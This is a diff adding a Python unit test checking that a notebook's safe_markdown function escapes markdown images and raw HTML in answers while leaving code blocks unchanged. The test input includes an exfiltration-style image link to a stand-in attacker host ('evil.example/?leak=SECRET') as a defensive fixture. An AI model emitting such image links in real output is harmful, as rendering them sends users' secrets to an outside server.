@@ -250,3 +250,13 @@ def test_text_view_prints_the_stream_tool_lines_and_usage():
     assert lines[1].startswith("  · echo(text=\"a\") → ok (")
     assert lines[2] == "Done."
     assert lines[3].startswith("  2 requests")
+
+
+def test_answers_render_without_remote_images_or_raw_html():
+    from bettong_nb.notebook.display import safe_markdown
+
+    answer = "See ![chart](https://evil.example/?leak=SECRET) and <img src=https://x/y>.\n```\nif a<b: print('![k](u)')\n```"
+    safe = safe_markdown(answer)
+    assert "\\![chart](https://evil.example/?leak=SECRET)" in safe, "an image becomes a link nobody fetches"
+    assert "&lt;img src=https://x/y>" in safe
+    assert "if a<b: print('![k](u)')" in safe, "code is left exactly as written"
